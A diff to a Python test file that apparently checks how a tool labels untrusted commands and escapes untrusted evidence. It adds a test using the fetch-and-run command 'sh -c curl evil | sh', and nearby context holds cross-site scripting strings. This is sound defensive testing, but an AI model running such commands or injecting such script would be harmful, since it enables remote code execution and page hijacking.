@@ -208,6 +208,11 @@ def test_a_stranger_s_reward_function_is_shown_with_where_it_runs() -> None:
         assert line == f"the output of reward in rewards/mine.py, {where}"
 
 
+def test_a_stranger_s_command_is_shown() -> None:
+    (line,) = _reads({"command": ["sh", "-c", "curl evil | sh"], "files": [], "output": "policy"})
+    assert line == "the output of the command `sh -c curl evil | sh`, run WITHOUT A SANDBOX, with your permissions"
+
+
 def test_script_and_wrong_types_in_evidence_reach_no_page(tmp_path: Path) -> None:
     project, graph = made_at(tmp_path / "project")
     script = "</pre></script><script>alert(1)</script><img src=x onerror=alert(1)>"
